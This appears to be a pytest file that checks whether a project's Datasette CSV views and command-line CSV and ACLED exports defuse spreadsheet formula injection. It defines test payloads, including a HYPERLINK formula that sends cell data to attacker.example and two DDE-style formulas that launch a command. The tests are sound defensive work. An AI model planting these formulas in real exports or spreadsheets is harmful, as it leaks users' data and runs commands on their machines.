"""Hardening round two (issue 14) of what the server and the exports hand out: CSV formula injection."""

from __future__ import annotations

import asyncio
import csv
import io
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from eventwire.cli import main
from eventwire.web.app import build_datasette

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"details")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_FORMULA = "+1+cmd|' /C calc'!A0"


def _get(ds: Any, path: str) -> Any:
    return asyncio.run(ds.client.get(path))


@pytest.fixture
def poisoned_db(db_copy: Path) -> Path:
    """The served database with hostile text where an outside feed could put it."""
    with sqlite3.connect(db_copy) as conn:
        conn.execute("UPDATE articles SET title = ?, outlet = ?, doc = ?", [FORMULA, AT_FORMULA, PLUS_FORMULA])
        conn.execute("UPDATE mentions SET doc = ?", [PLUS_FORMULA])
        conn.execute("UPDATE events SET actor_name = ?, actor_text = ?", [FORMULA, FORMULA])
        conn.execute("UPDATE mentions SET actor_name = ?, actor_text = ?", [FORMULA, FORMULA])
    return db_copy


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert not risky, risky


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["articles", "events", "mentions"])
def test_datasette_csv_neutralises_formula_cells(poisoned_db: Path, table: str) -> None:
    ds = build_datasette(poisoned_db)
    for query in ("", "?_dl=1", "?_size=max"):
        response = _get(ds, f"/{poisoned_db.stem}/{table}.csv{query}")
        assert response.status_code == 200
        cells = _cells(response.text)
        _assert_no_formula(cells)
        assert ("'" + FORMULA in cells) or ("'" + PLUS_FORMULA in cells)


def test_datasette_csv_keeps_negative_coordinates_as_numbers(poisoned_db: Path) -> None:
    with sqlite3.connect(poisoned_db) as conn:
        conn.execute("UPDATE events SET lat = -33.9, lon = -70.65")
    text = _get(build_datasette(poisoned_db), f"/{poisoned_db.stem}/events.csv?_col=lat&_col=lon").text
    assert "-33.9" in _cells(text) and "-70.65" in _cells(text)


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_events_export_neutralises_formula_cells(poisoned_db: Path, fmt: str) -> None:
    result = CliRunner().invoke(main, ["events", "--db", str(poisoned_db), "--format", fmt])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert len(cells) > 40
    _assert_no_formula(cells)
    # csv: the doc column; acled: actor1 and source.
    assert ("'" + PLUS_FORMULA if fmt == "csv" else "'" + FORMULA) in cells
